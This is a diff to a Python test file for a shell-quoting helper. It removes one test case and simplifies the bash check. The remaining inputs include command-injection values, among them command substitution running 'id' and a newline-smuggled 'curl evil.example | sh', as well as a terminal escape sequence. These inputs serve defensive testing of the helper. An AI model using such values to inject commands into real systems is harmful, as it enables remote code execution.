@@ -51,7 +51,6 @@ def test_a_file_that_may_not_be_replaced_is_one_of_a_folder_that_may_not_be_writ
         "two words",
         "it's",
         "$(id)`id`",
-        "-C",
         "a\ncurl evil.example | sh",
         "\x1b]0;title\x07",
         "'\n\\",
@@ -62,5 +61,5 @@ def test_a_file_that_may_not_be_replaced_is_one_of_a_folder_that_may_not_be_writ
 def test_a_name_in_a_command_is_one_word_on_one_line_whatever_is_in_it(name: str):
     typed = quoted(name)
     assert typed.isprintable() and len(typed.splitlines()) == 1
-    told = subprocess.run(["bash", "-c", f"printf %s {'--' if name == '-C' else ''} {typed}"], capture_output=True, check=True)
+    told = subprocess.run(["bash", "-c", f"printf %s {typed}"], capture_output=True, check=True)
     assert told.stdout == os.fsencode(name)
